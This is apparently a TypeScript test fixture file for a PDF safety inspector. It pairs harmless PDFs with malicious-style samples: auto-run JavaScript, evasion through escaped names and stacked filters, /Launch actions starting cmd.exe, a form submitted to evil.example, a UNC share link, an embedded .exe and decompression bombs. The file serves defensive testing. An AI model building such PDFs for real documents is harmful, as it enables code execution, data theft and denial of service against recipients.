/** PDF test files, each with the expected inspection result. */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { deflateSync } from 'node:zlib';
import { asciiHex, packedPdf, plainPdf } from './pdf-files.ts';
import { minimalPdf } from './resume-files.ts';

type HarmlessCase = readonly [name: string, file: Buffer];
type FindingCase = readonly [name: string, file: Buffer, finding: string];

const fixture = (name: string) =>
  readFileSync(fileURLToPath(new URL(`../../fixtures/resumes/${name}`, import.meta.url)));
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const scriptOnOpen = { catalog: '/OpenAction 4 0 R', objects: [script] };
const annotation = (text: string) => plainPdf({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${text}>>]` });
const link = (action: string) => annotation(`/Subtype/Link/A<<${action}>>`);
const formField = (text: string) =>
  plainPdf({
    catalog: '/AcroForm<</Fields[4 0 R]>>',
    page: '/Annots[4 0 R]',
    objects: [`<</Type/Annot/Subtype/Widget/T(a)/Rect[0 0 9 9]${text}>>`],
  });
const embeddedFile = { dictionary: '/Type/EmbeddedFile', stream: Buffer.from('MZ') };
const fileSpecification = '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>';
const bookmark = (action: string, childAction = '') =>
  plainPdf({
    catalog: '/Outlines 4 0 R',
    objects: [
      '<</First 5 0 R/Last 5 0 R/Count 1>>',
      `<</Title(Skills)/Parent 4 0 R ${action} ${childAction && '/First 6 0 R/Last 6 0 R/Count 1'}>>`,
      `<</Title(More)/Parent 5 0 R ${childAction}>>`,
    ],
  });
/** Without a cross-reference table, which readers reconstruct. */
const pdfWithPages = (...pages: readonly string[]) => {
  const kids = pages.map((_, index) => `${index + 3} 0 R`);
  const objects = pages.map(
    (page, index) => `${index + 3} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]${page}>>endobj\n`,
  );
  return Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[${kids.join(' ')}]/Count ${pages.length}>>endobj\n${objects.join('')}trailer<</Root 1 0 R>>\n%%EOF\n`,
  );
};

const launch = '/S/Launch/F(cmd.exe)';
const unknownAction = 'a link or button with an action that our reader does not know';
const fileLink = 'a link to a file or program, or one without https://';

export const harmlessPdf: readonly HarmlessCase[] = [
  ['Chromium, with links to mail, telephone and web', fixture('chromium-plain.pdf')],
  ['Chromium, with a table and an internal link', fixture('chromium-table.pdf')],
  ['Chromium, with a picture', fixture('chromium-picture.pdf')],
  ['Chromium, in Devanagari', fixture('chromium-devanagari.pdf')],
  ['LibreOffice, with a link', fixture('libreoffice-link.pdf')],
  ['LibreOffice, in Devanagari', fixture('libreoffice-devanagari.pdf')],
  ['object streams', packedPdf()],
  ['without a cross-reference, which readers repair', minimalPdf('% I write JavaScript and launch sites')],
  ['plain', plainPdf()],
  ['with a web link', link('/S/URI/URI(https://asha.example)')],
  ['with a web link without a scheme', link('/S/URI/URI(www.asha.example)')],
  ['with a link within the document', annotation('/Subtype/Link/Dest[3 0 R/Fit]')],
  ['with a link to the next page', link('/S/Named/N/NextPage')],
  ['with a link that shows a layer', link('/S/SetOCGState/State[/ON 4 0 R]')],
  ['with a link that empties a form', link('/S/ResetForm')],
  ['with a button to the web', formField('/FT/Btn/Ff 65536/A<</S/URI/URI(https://asha.example)>>')],
  ['with a note', annotation('/Subtype/Text/Contents(Hello)')],
  ['with bookmarks', bookmark('/Dest[3 0 R/Fit]', '/Dest[3 0 R/Fit]')],
  ['with a form that was filled in', formField('/FT/Tx/V(Asha Rane)')],
  ['that opens on its first page', plainPdf({ catalog: '/OpenAction[3 0 R/Fit]' })],
  ['of 5 MB', minimalPdf(`% ${'x'.repeat(5 * 1024 * 1024 - 400)}`)],
];

export const activePdf: readonly FindingCase[] = [
  ['JavaScript', plainPdf(scriptOnOpen), 'JavaScript'],
  [
    'JavaScript with an escaped letter',
    plainPdf({ ...scriptOnOpen, objects: ['<</S/J#61vaScript/JS(app.alert(1))>>'] }),
    'JavaScript',
  ],
  ['JavaScript in an object stream', packedPdf(scriptOnOpen), 'JavaScript'],
  ['an escaped letter in /ObjStm', packedPdf(scriptOnOpen, { typeName: '/ObjSt#6d' }), 'JavaScript'],
  [
    'a long dictionary (900 characters) before the stream',
    packedPdf(scriptOnOpen, { dictionary: `/Note(${'x'.repeat(900)})/Filter/FlateDecode` }),
    'JavaScript',
  ],
  [
    'ASCIIHex and Flate',
    packedPdf(scriptOnOpen, {
      dictionary: '/Filter[/ASCIIHexDecode/FlateDecode]',
      encode: (data) => asciiHex(deflateSync(data)),
    }),
    'JavaScript',
  ],
  ['a stream of over 5 MB', packedPdf(scriptOnOpen, { padding: 6 * 1024 * 1024 }), 'JavaScript'],
  ['after 20 MB of padding', packedPdf(scriptOnOpen, { padding: 21 * 1024 * 1024 }), 'JavaScript'],
  [
    'JavaScript by name',
    plainPdf({ catalog: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', objects: [script] }),
    'JavaScript',
  ],
  ['JavaScript as the document closes', plainPdf({ catalog: `/AA<</WC ${script}>>` }), 'JavaScript'],
  ['JavaScript as a page opens', plainPdf({ page: `/AA<</O ${script}>>` }), 'JavaScript'],
  ['JavaScript of a form field', formField(`/FT/Tx/AA<</K ${script}>>`), 'JavaScript'],
  [
    'JavaScript of a field that the form does not list',
    annotation(`/Subtype/Widget/FT/Tx/T(a)/AA<</K ${script}>>`),
    'JavaScript',
  ],
  ['JavaScript of a link', annotation(`/Subtype/Link/A ${script}`), unknownAction],
  ['JavaScript of a bookmark', bookmark(`/A ${script}`), unknownAction],
  [
    'a button that sends the form',
    formField('/FT/Btn/Ff 65536/A<</S/SubmitForm/F(http://evil.example)>>'),
    unknownAction,
  ],
  ['a program to launch', link(launch), fileLink],
  ['another document on a share', link('/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]'), fileLink],
  [
    'a file inside',
    plainPdf({
      catalog: `/Names<</EmbeddedFiles<</Names[(a.exe)${fileSpecification}]>>>>`,
      objects: [embeddedFile],
    }),
    'an attached file',
  ],
  [
    'a link to a file inside',
    plainPdf({
      catalog: `/Names<</EmbeddedFiles<</Names[(a.pdf)${fileSpecification}]>>>>`,
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToE/T<</R/C/N(a.pdf)>>>>>>]',
      objects: [embeddedFile],
    }),
    'an attached file',
  ],
  [
    'a file pinned to a page',
    plainPdf({
      page: `/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS${fileSpecification}>>]`,
      objects: [embeddedFile],
    }),
    'an attached file',
  ],
  ['a portfolio', plainPdf({ catalog: '/Collection<</View/D>>' }), 'an attached file'],
  ...['RichMedia', 'Screen', 'Movie', 'Sound', '3D'].map(
    (subtype): FindingCase => [subtype, annotation(`/Subtype/${subtype}`), 'sound, film or a 3D model'],
  ),
  ['a hidden link to a program', annotation(`/F 2/Subtype/Link/A<<${launch}>>`), fileLink],
  ['a button that starts a program', formField(`/FT/Btn/Ff 65536/A<<${launch}>>`), fileLink],
  ['a bookmark that starts a program', bookmark(`/A<<${launch}>>`), fileLink],
  ['a program in a bookmark below another', bookmark('/Dest[3 0 R/Fit]', `/A<<${launch}>>`), fileLink],
  [
    'a program on the last of three pages',
    pdfWithPages('', '', `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<<${launch}>>>>]`),
    fileLink,
  ],
  [
    'a dynamic form',
    plainPdf({
      catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>',
      objects: [{ dictionary: '', stream: Buffer.from('<xdp/>') }],
    }),
    'a dynamic form (XFA)',
  ],
];

export const unreadablePdf: readonly FindingCase[] = [
  ['half a PDF', plainPdf().subarray(0, 60), 'damaged'],
  ['an encrypted PDF of LibreOffice', fixture('libreoffice-locked.pdf'), 'locked with a password'],
  ['a PDF without a page', pdfWithPages(), 'without a page'],
];

/** A function, because creating these takes seconds. */
export const hugePdf = (): readonly (readonly [name: string, file: Buffer])[] => [
  ['an object stream of 300 MB', packedPdf(scriptOnOpen, { padding: 300 * 1024 * 1024 })],
  [
    'a script packed twice',
    plainPdf({
      catalog: '/OpenAction<</S/JavaScript/JS 4 0 R>>',
      objects: [
        {
          dictionary: '/Filter[/FlateDecode/FlateDecode]',
          stream: deflateSync(deflateSync(Buffer.alloc(300 * 1024 * 1024))),
        },
      ],
    }),
  ],
];
